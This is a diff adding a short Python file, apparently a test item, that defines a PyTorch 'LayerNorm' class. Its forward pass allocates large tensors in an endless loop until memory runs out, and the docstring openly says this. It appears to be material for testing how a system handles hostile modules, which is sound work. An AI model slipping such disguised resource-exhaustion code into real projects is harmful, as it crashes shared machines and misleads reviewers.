@@ -1,0 +1,21 @@
+# mypy: ignore-errors
+"""Takes all the memory that it can get, in a call.
+
+item: LayerNorm
+"""
+
+import torch
+from torch import nn
+
+
+class LayerNorm(nn.Module):
+    def __init__(self, normalized_shape, eps=1e-5, elementwise_affine=True):
+        super().__init__()
+        self.eps = eps
+        self.weight = nn.Parameter(torch.ones(normalized_shape))
+        self.bias = nn.Parameter(torch.zeros(normalized_shape))
+
+    def forward(self, x):
+        hoard = []
+        while True:
+            hoard.append(torch.ones(2**27))
